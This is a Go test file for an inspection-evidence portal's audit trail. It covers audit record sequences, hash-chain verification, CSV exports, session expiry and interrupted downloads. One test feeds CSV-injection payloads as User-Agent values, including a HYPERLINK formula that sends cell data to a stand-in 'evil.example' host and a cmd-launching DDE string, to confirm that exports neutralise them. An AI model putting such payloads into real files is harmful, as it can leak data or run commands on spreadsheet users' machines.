package web_test

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"encoding/csv"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/ofsted-portal/evidence/deploy/devstack"
	"github.com/ofsted-portal/evidence/portal/retention"
	"github.com/ofsted-portal/evidence/portal/store"
	"github.com/ofsted-portal/evidence/web"
)

// TestAuditJourney does the whole journey and checks the exact sequence of
// audit actions, then that the chain verifies and the exports carry it.
// On PostgreSQL the portal serves as production's role, which owns
// nothing and only reads and appends to the trail: every act is recorded
// all the same.
func TestAuditJourney(t *testing.T) {
	ts := startStackSetup(t, func(o *devstack.Options) { o.ServingRole = true })
	ctx := context.Background()
	st := ts.Portal.Store()
	start, _, _ := st.AuditHead(ctx)

	admin := ts.signIn(t, "ofsted", "admin@ofsted.example")
	v := setUpVisit(t, ts, admin, "FV-AUD-1")
	decode[map[string]any](t, admin.sendJSON("PUT", "/api/v1/visits/"+v.ID+"/members", map[string]string{"email": "hmi@ofsted.example", "role": "inspector"}), http.StatusCreated)
	uploader := ts.signIn(t, "cafcass", "uploader@cafcass.example")
	lead := ts.signIn(t, "ofsted", "lead@ofsted.example")
	hmi := ts.signIn(t, "ofsted", "hmi@ofsted.example")
	f := uploader.uploadItem(v.ID, "1.01 Structure.pdf", "", []byte("structure"))
	cld := uploader.uploadItem(v.ID, "Closed cases.xlsx", "cld", []byte("child-level data"))
	req, _ := http.NewRequest("GET", lead.base+"/api/v1/visits/"+v.ID+"/files/"+f.ID+"/content", nil)
	req.Header.Set("Range", "bytes=2-5")
	readAll(t, lead.do(req))
	if s := hmi.status("GET", "/api/v1/visits/"+v.ID+"/files/"+cld.ID+"/content", nil); s != http.StatusNotFound {
		t.Fatalf("inspector downloading child-level data: %d, want 404 (a file they may not list)", s)
	}
	members := decode[struct {
		Members []struct{ ID, Email string } `json:"members"`
	}](t, admin.get("/api/v1/visits/"+v.ID+"/members"), http.StatusOK)
	for _, m := range members.Members {
		if m.Email == "hmi@ofsted.example" {
			admin.status("DELETE", "/api/v1/visits/"+v.ID+"/members/"+m.ID, nil)
		}
	}
	publish(t, ts, lead, v, 30)
	ts.offset.Store(int64(90 * 24 * time.Hour))
	// The first sweep gives notice; an administrator approves; the next
	// destroys.
	if ids, err := ts.Portal.RunRetention(ctx); err != nil || len(ids) != 0 {
		t.Fatalf("first sweep: %v %v", ids, err)
	}
	decode[visitResp](t, admin.sendJSON("POST", "/api/v1/visits/"+v.ID+"/destruction/approve", nil), http.StatusOK)
	if ids, err := ts.Portal.RunRetention(ctx); err != nil || len(ids) != 1 {
		t.Fatalf("sweep: %v %v", ids, err)
	}
	lead.status("POST", "/auth/logout", nil)

	recs, err := st.AuditRecords(ctx, store.AuditFilter{AfterSeq: start})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range recs {
		got = append(got, r.Action+":"+r.Outcome)
	}
	want := []string{
		// The administrator's first sign-in takes up the role the demo
		// granted by email.
		"signin:success", "portal_role.bound:success", "visit.created:success", "member.added:success", "member.added:success", "member.added:success",
		// Each first sign-in takes up two memberships: this visit's and
		// the demo visit's.
		"signin:success", "member.bound:success", "member.bound:success", "signin:success", "member.bound:success", "member.bound:success",
		"signin:success", "member.bound:success", "member.bound:success",
		"upload.started:started", "upload.completed:success", "receipt.issued:success", "upload.started:started", "upload.completed:success", "receipt.issued:success",
		"file.download:success", "request.denied:denied", "member.removed:success",
		"letter.draft_sent:success", "letter.final_sent:success", "letter.published:success",
		"destruction.notice:success", "destruction.approved:success", "destruction.started:success", "destruction.key_destroyed:success", "key.epoch_started:success",
		"destruction.key_epoch_superseded:success", "destruction.objects_deleted:success",
		"destruction.certificate_issued:success", "visit.destroyed:success",
		"signout:success",
	}
	if strings.Join(got, " ") != strings.Join(want, " ") {
		t.Fatalf("audit actions:\n got  %v\n want %v", got, want)
	}
	for _, r := range recs {
		if strings.Contains(r.Detail, "Structure") || strings.Contains(r.Detail, "Closed cases") {
			t.Fatalf("record %d names a file: %s", r.Seq, r.Detail)
		}
		if r.Action == "file.download" && (r.Object != f.ID || !strings.Contains(r.Detail, `"from":2`) || !strings.Contains(r.Detail, `"bytes":4`) || r.ActorEmail != "lead@ofsted.example" || r.Role != "lead_inspector" || r.RequestID == "" || r.ClientIP != "127.0.0.1") {
			t.Fatalf("download record %+v", r)
		}
		if r.Action == "request.denied" && !strings.Contains(r.Detail, "restricted-item") {
			t.Fatalf("denied record without its policy: %+v", r)
		}
	}

	// The chain and a fresh checkpoint verify with the portal's key.
	key, _ := retention.LoadSigningKey(ts.Config.SigningKey)
	all, _ := st.AuditRecords(ctx, store.AuditFilter{})
	seq, hash, _ := st.AuditHead(ctx)
	st.AddCheckpoint(ctx, store.SignCheckpoint(seq, hash, time.Now(), key))
	cps, _ := st.Checkpoints(ctx)
	if err := store.VerifyAudit(all, cps, key.Public().(ed25519.PublicKey)); err != nil {
		t.Fatal(err)
	}

	// The visit's trail survives destruction, for administrators.
	trail := decode[struct {
		Records    []store.AuditRecord `json:"records"`
		Checkpoint *store.Checkpoint   `json:"checkpoint"`
	}](t, admin.get("/api/v1/visits/"+v.ID+"/audit?action=destruction."), http.StatusOK)
	if len(trail.Records) != 7 || trail.Checkpoint == nil { // notice, approved, started, key, key epoch superseded, objects, certificate
		t.Fatalf("filtered trail: %d records, checkpoint %v", len(trail.Records), trail.Checkpoint)
	}
	resp := admin.get("/api/v1/visits/" + v.ID + "/audit?format=csv")
	rows, err := csv.NewReader(strings.NewReader(readAll(t, resp))).ReadAll()
	if err != nil || len(rows) < 10 || !slices.Contains(rows[0], "prev_hash") || !slices.Contains(rows[0], "hash") {
		t.Fatalf("csv export: %d rows, %v", len(rows), err)
	}

	if page := readAll(t, admin.get("/visits/"+v.ID+"/audit?actor=lead@ofsted.example")); !strings.Contains(page, "lead@ofsted.example (Lead inspector) downloaded") || strings.Contains(page, "started to upload") || strings.Contains(page, "uploaded") {
		t.Fatal("audit page filtered by person does not show the lead's records only")
	}
	// Emails compare without case: typed with capitals, the same records
	// (before, none: the person seemed to have done nothing).
	if page := readAll(t, admin.get("/visits/"+v.ID+"/audit?actor=Lead@Ofsted.example")); !strings.Contains(page, "lead@ofsted.example (Lead inspector) downloaded") || strings.Contains(page, "uploaded") {
		t.Fatal("audit page filtered by the person's email typed with capitals does not show the lead's records")
	}

	// People see their own sign-ins and downloads.
	mine := decode[struct {
		Activity []struct{ Action, Outcome string } `json:"activity"`
	}](t, uploader.get("/api/v1/me/activity"), http.StatusOK)
	if len(mine.Activity) == 0 || mine.Activity[0].Action != "signin" || mine.Activity[0].Outcome != "success" {
		t.Fatalf("uploader's activity: %+v", mine.Activity)
	}
}

// TestNoDownloadWithoutItsRecord: when the audit record cannot be written,
// the download is refused and no byte is sent.
func TestNoDownloadWithoutItsRecord(t *testing.T) {
	ts := startStack(t)
	v := ts.demoVisit(t)
	uploader := ts.signIn(t, "cafcass", "uploader@cafcass.example")
	lead := ts.signIn(t, "ofsted", "lead@ofsted.example")
	f := uploader.uploadItem(v.ID, "a.pdf", "", []byte("secret-bytes"))
	if _, err := ts.Portal.Store().DB().Exec(`ALTER TABLE audit RENAME TO audit_unavailable`); err != nil {
		t.Fatal(err)
	}
	resp := lead.get("/api/v1/visits/" + v.ID + "/files/" + f.ID + "/content")
	body := readAll(t, resp)
	if resp.StatusCode != http.StatusInternalServerError || strings.Contains(body, "secret-bytes") {
		t.Fatalf("download without its audit record: %d %q", resp.StatusCode, body)
	}
}

func TestSessionExpiryIsRecorded(t *testing.T) {
	ts := startStack(t)
	ctx := context.Background()
	ts.signIn(t, "ofsted", "lead@ofsted.example")
	start, _, _ := ts.Portal.Store().AuditHead(ctx)
	if _, err := ts.Portal.Store().DB().Exec(`UPDATE sessions SET expiry = 0`); err != nil {
		t.Fatal(err)
	}
	// The background round (run as the portal starts, then every minute)
	// may hold the janitor's lease when the test sweeps: here it does, for
	// two seconds (taken once that round, if running, is over).
	for deadline := time.Now().Add(time.Minute); ; time.Sleep(50 * time.Millisecond) {
		ok, err := ts.Portal.Store().TakeLease(ctx, "janitor", "background", time.Now(), time.Now().Add(2*time.Second))
		if err != nil {
			t.Fatal(err)
		}
		if ok {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the janitor's lease stayed taken for a minute")
		}
	}
	ts.sweep(t)
	recs, _ := ts.Portal.Store().AuditRecords(ctx, store.AuditFilter{AfterSeq: start})
	if len(recs) != 1 || recs[0].Action != "session.expired" || recs[0].ActorEmail != "lead@ofsted.example" {
		t.Fatalf("records after expiry: %+v", recs)
	}
	var n int
	ts.Portal.Store().DB().QueryRow(`SELECT COUNT(*) FROM sessions`).Scan(&n)
	if n != 0 {
		t.Fatalf("%d sessions left", n)
	}
}

// TestAuditCSVIsInert: a cell that a spreadsheet would run as a formula
// (here a User-Agent of =HYPERLINK(...)) is exported with a leading
// apostrophe, as OWASP recommends for CSV injection.
func TestAuditCSVIsInert(t *testing.T) {
	ts := startStack(t)
	v := ts.demoVisit(t)
	admin := ts.signIn(t, "ofsted", "admin@ofsted.example")
	for _, ua := range []string{`=HYPERLINK("http://evil.example/?d="&A1,"Open")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"} {
		j, _ := json.Marshal(map[string]string{"email": "new" + strconv.Itoa(len(ua)) + "@ofsted.example", "role": "inspector"})
		req, _ := http.NewRequest(http.MethodPut, admin.base+"/api/v1/visits/"+v.ID+"/members", bytes.NewReader(j))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("User-Agent", ua)
		resp := admin.do(req)
		if resp.StatusCode/100 != 2 {
			t.Fatalf("add member: %d %s", resp.StatusCode, readAll(t, resp))
		}
		resp.Body.Close()
	}
	rows, err := csv.NewReader(strings.NewReader(readAll(t, admin.get("/api/v1/visits/"+v.ID+"/audit?format=csv&action=member.")))).ReadAll()
	if err != nil || len(rows) < 5 {
		t.Fatalf("csv: %d rows, %v", len(rows), err)
	}
	col, checked := slices.Index(rows[0], "user_agent"), 0
	for _, r := range rows[1:] {
		if r[col] == "" {
			continue // the demo visit's own members, added by the portal
		}
		checked++
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s starts with %q: %q", rows[0][i], cell[0], cell)
			}
		}
		if !strings.HasPrefix(r[col], "'") {
			t.Errorf("user agent exported as %q", r[col])
		}
	}
	if checked != 4 {
		t.Fatalf("%d records with a user agent, want 4", checked)
	}
}

// TestAuditCSVHasTheWholeTrail: the CSV export is what a records manager
// keeps of a visit's trail, so it holds every record the filter selects,
// read and written a page at a time, in sequence order, and not the first
// page of the JSON API. Before, it stopped silently at 200 records (the
// API's page), with nothing in the file to say more were left out.
func TestAuditCSVHasTheWholeTrail(t *testing.T) {
	ctx := context.Background()
	ts := startStack(t)
	v := ts.demoVisit(t)
	admin := ts.signIn(t, "ofsted", "admin@ofsted.example")
	st := ts.Portal.Store()
	const seeded = 5200 // more than a page of the export's reads too
	recs := make([]store.AuditRecord, seeded)
	for i := range recs {
		recs[i] = store.AuditRecord{Time: time.Now(), ActorEmail: "lead@ofsted.example", ActorIssuer: "ofsted", ActorSubject: "lead", Role: "lead_inspector",
			VisitID: v.ID, Action: "file.download", Object: "f" + strconv.Itoa(i), Outcome: "success", Detail: `{"from":0,"bytes":1}`}
	}
	if _, _, err := st.SeedAudit(ctx, recs); err != nil {
		t.Fatal(err)
	}
	all, err := st.AuditRecords(ctx, store.AuditFilter{VisitID: v.ID})
	if err != nil {
		t.Fatal(err)
	}
	csvRows := func(query string) [][]string {
		t.Helper()
		resp := admin.get("/api/v1/visits/" + v.ID + "/audit?format=csv" + query)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("csv%s: %d", query, resp.StatusCode)
		}
		rows, err := csv.NewReader(strings.NewReader(readAll(t, resp))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return rows[1:]
	}
	// The whole trail, and last the export's own record.
	rows := csvRows("")
	if len(rows) != len(all)+1 || rows[len(all)][7] != "audit.exported" {
		t.Fatalf("csv export: %d records of the visit's %d and the export's own", len(rows), len(all))
	}
	for i, r := range rows[:len(all)] {
		if r[0] != strconv.FormatInt(all[i].Seq, 10) || r[15] != all[i].Hash {
			t.Fatalf("csv row %d: record %s, want %d", i, r[0], all[i].Seq)
		}
	}
	// The filter, a starting record and an explicit limit still hold.
	if rows := csvRows("&action=file.download&after=" + strconv.FormatInt(all[10].Seq, 10)); len(rows) != countBefore(all, len(all)-1, "file.download")-countBefore(all, 10, "file.download") {
		t.Fatalf("csv after record %d: %d rows", all[10].Seq, len(rows))
	}
	if rows := csvRows("&limit=7"); len(rows) != 7 || rows[6][0] != strconv.FormatInt(all[6].Seq, 10) {
		t.Fatalf("csv with limit=7: %d rows", len(rows))
	}
	// The JSON API stays paged.
	page := decode[struct {
		Records   []store.AuditRecord `json:"records"`
		NextAfter int64               `json:"next_after"`
	}](t, admin.get("/api/v1/visits/"+v.ID+"/audit"), http.StatusOK)
	if len(page.Records) != 200 || page.NextAfter != all[199].Seq {
		t.Fatalf("json: %d records, next after %d", len(page.Records), page.NextAfter)
	}
}

// countBefore counts the records up to all[i] whose action is action.
func countBefore(all []store.AuditRecord, i int, action string) int {
	n := 0
	for _, r := range all[:i+1] {
		if r.Action == action {
			n++
		}
	}
	return n
}

// TestActivityReadsItsPageOnly: a person's own recent activity is the 50
// newest of their sign-ins and downloads, read as such. Before, every one
// of them was read (an inspector's years of downloads) and all but the
// last 50 thrown away, on every request of the page.
func TestActivityReadsItsPageOnly(t *testing.T) {
	ctx := context.Background()
	st := &statements{seen: map[string][]string{}, sizes: map[string]int{}}
	ts := startStackSetup(t, func(o *devstack.Options) {
		o.WebOptions = []web.Option{web.WithStatementCount(st.report), web.WithRowsRead(st.readRows)}
	})
	lead := ts.signIn(t, "ofsted", "lead@ofsted.example")
	var issuer, subject string
	if err := ts.Portal.Store().DB().QueryRow(`SELECT issuer, subject FROM users WHERE email = ?`, "lead@ofsted.example").Scan(&issuer, &subject); err != nil {
		t.Fatal(err)
	}
	recs := make([]store.AuditRecord, 3000)
	for i := range recs {
		recs[i] = store.AuditRecord{Time: time.Now(), ActorEmail: "lead@ofsted.example", ActorIssuer: issuer, ActorSubject: subject, Role: "lead_inspector",
			VisitID: "v1", Action: "file.download", Object: "f" + strconv.Itoa(i), Outcome: "success", Detail: `{"from":0,"bytes":1}`}
	}
	if _, _, err := ts.Portal.Store().SeedAudit(ctx, recs); err != nil {
		t.Fatal(err)
	}
	st.get(t, lead, "/api/v1/me/activity")
	mine := decode[struct {
		Activity []struct{ Action, Object string } `json:"activity"`
	}](t, lead.get("/api/v1/me/activity"), http.StatusOK)
	if len(mine.Activity) != 50 || mine.Activity[0].Object != "f2999" || mine.Activity[49].Object != "f2950" {
		t.Fatalf("activity: %d items, newest %+v", len(mine.Activity), mine.Activity[:min(1, len(mine.Activity))])
	}
	st.mu.Lock()
	rows := st.rows["GET /api/v1/me/activity"]
	st.mu.Unlock()
	if rows > 200 {
		t.Fatalf("the activity page read %d rows for its 50", rows)
	}
}

// TestAuditCSVLeftByItsReader: a records manager who cancels the export's
// download part-way has not met a fault of the portal. The export stops,
// and nothing is logged as a failed request (an error an operator is
// paged for), whether the write to the gone client fails or the next
// page's read is cancelled.
func TestAuditCSVLeftByItsReader(t *testing.T) {
	ts := startStack(t)
	v := ts.demoVisit(t)
	admin := ts.signIn(t, "ofsted", "admin@ofsted.example")
	seedDownloads(t, ts, v.ID, 12000) // three of the export's reads
	client := slowReader(admin)       // still written to when it leaves
	// The request log's line comes once the handler has returned (a
	// failure's, before it, names the route too).
	answered := func() (n int) {
		for line := range strings.Lines(ts.log.String()) {
			if strings.Contains(line, `"msg":"request","request_id"`) && strings.Contains(line, `"route":"/api/v1/visits/:id/audit"`) {
				n++
			}
		}
		return n
	}
	for round := range 3 {
		resp, err := client.Get(admin.base + "/api/v1/visits/" + v.ID + "/audit?format=csv")
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("csv: %d", resp.StatusCode)
		}
		if _, err := io.ReadFull(resp.Body, make([]byte, 1000)); err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		client.CloseIdleConnections()
		deadline := time.Now().Add(20 * time.Second)
		for answered() < round+1 {
			if time.Now().After(deadline) {
				t.Fatalf("round %d: the export went on 20 s after its reader left", round)
			}
			time.Sleep(50 * time.Millisecond)
		}
	}
	for line := range strings.Lines(ts.log.String()) {
		if strings.Contains(line, `"level":"ERROR"`) {
			t.Errorf("an export its reader left is logged as a failure: %s", line)
		}
	}
	// The trail says each export began, and that each was cut, with how
	// many records had gone: a copy cut short is not taken for the whole.
	recs, err := ts.Portal.Store().AuditRecords(context.Background(), store.AuditFilter{VisitID: v.ID, Action: "audit.exported"})
	if err != nil {
		t.Fatal(err)
	}
	var began, cut int
	for _, r := range recs {
		var d struct {
			Sent *int `json:"records_sent"`
		}
		if err := json.Unmarshal([]byte(r.Detail), &d); err != nil {
			t.Fatal(err)
		}
		switch {
		case r.Outcome == "success" && d.Sent == nil:
			began++
		case r.Outcome == "interrupted" && d.Sent != nil && *d.Sent < 12000:
			cut++
		default:
			t.Errorf("an export's record: %s %s", r.Outcome, r.Detail)
		}
	}
	if began != 3 || cut != 3 {
		t.Fatalf("three exports cut by their reader: the trail holds %d begun and %d cut, want 3 and 3", began, cut)
	}
	if page := readAll(t, admin.get("/visits/"+v.ID+"/audit?action=audit.exported")); !strings.Contains(page, "Interrupted") || !strings.Contains(page, "Records sent: ") {
		t.Fatal("the audit page does not say, in words, that the exports were cut and how far they went")
	}
}

// seedDownloads puts n records of an inspector's downloads in the visit's
// trail, in bulk.
func seedDownloads(t *testing.T, ts *testStack, visitID string, n int) {
	t.Helper()
	recs := make([]store.AuditRecord, n)
	for i := range recs {
		recs[i] = store.AuditRecord{Time: time.Now(), ActorEmail: "hmi@ofsted.example", ActorIssuer: "ofsted", ActorSubject: "hmi", Role: "inspector",
			VisitID: visitID, Action: "file.download", Object: "f" + strconv.Itoa(i), Outcome: "success", Detail: `{"from":0,"bytes":1}`}
	}
	if _, _, err := ts.Portal.Store().SeedAudit(context.Background(), recs); err != nil {
		t.Fatal(err)
	}
}

// slowReader is a client of b's session whose connections have a receive
// buffer of 4 KiB, so that a response it reads slowly, or leaves, keeps
// the portal waiting on its writes.
func slowReader(b *browser) *http.Client {
	small := &net.Dialer{Control: func(_, _ string, c syscall.RawConn) error {
		return c.Control(func(fd uintptr) { syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 4096) })
	}}
	return &http.Client{Jar: b.c.Jar, Transport: &http.Transport{DialContext: small.DialContext}}
}

// TestAuditExportIsRecorded: an export of a visit's trail is a copy of it
// leaving the portal, and is recorded as a download is, with the filter it
// asked for; an export of the whole trail ends with its own record, and
// an export that cannot be recorded is refused before any record is sent.
func TestAuditExportIsRecorded(t *testing.T) {
	ts := startStack(t)
	ctx := context.Background()
	v := ts.demoVisit(t)
	admin := ts.signIn(t, "ofsted", "admin@ofsted.example")
	st := ts.Portal.Store()

	if resp := admin.get("/api/v1/visits/" + v.ID + "/audit?format=csv&action=member.&from=2020-01-01"); resp.StatusCode != http.StatusOK {
		t.Fatalf("filtered export: %d", resp.StatusCode)
	} else {
		readAll(t, resp)
	}
	recs, err := st.AuditRecords(ctx, store.AuditFilter{VisitID: v.ID, Action: "audit.exported"})
	if err != nil || len(recs) != 1 {
		t.Fatalf("after one export the visit's trail holds %d records of it (%v): the export was not recorded", len(recs), err)
	}
	if r := recs[0]; r.ActorEmail != "admin@ofsted.example" || r.Outcome != "success" || !strings.Contains(r.Detail, `"kind":"member."`) || !strings.Contains(r.Detail, `"from":"2020-01-01"`) {
		t.Fatalf("the export's record does not say who exported what: %+v", r)
	}

	rows, err := csv.NewReader(strings.NewReader(readAll(t, admin.get("/api/v1/visits/"+v.ID+"/audit?format=csv")))).ReadAll()
	if err != nil || len(rows) < 3 {
		t.Fatalf("whole export: %d rows, %v", len(rows), err)
	}
	if last := rows[len(rows)-1]; last[slices.Index(rows[0], "action")] != "audit.exported" || last[slices.Index(rows[0], "actor_email")] != "admin@ofsted.example" {
		t.Fatalf("the whole trail's export does not end with its own record: %v", last)
	}
	page := readAll(t, admin.get("/visits/"+v.ID+"/audit?action=audit.exported"))
	if !strings.Contains(page, "exported the audit trail") || !strings.Contains(page, "Kind of act: member.") || !strings.Contains(page, "From: 2020-01-01") {
		t.Fatal("the audit page does not show the export, and what it asked for, in words")
	}
	if !strings.Contains(page, `<option value="audit.exported" selected>Exports of the audit trail</option>`) {
		t.Fatal("the audit page's filter does not offer the exports")
	}

	refuseRecords(t, ts, "audit.exported", "export records refused by the test")
	resp := admin.get("/api/v1/visits/" + v.ID + "/audit?format=csv")
	body := readAll(t, resp)
	if resp.StatusCode != http.StatusInternalServerError || strings.Contains(body, "prev_hash") {
		t.Fatalf("an export that could not be recorded answered %d with %d bytes: %.80q", resp.StatusCode, len(body), body)
	}
}
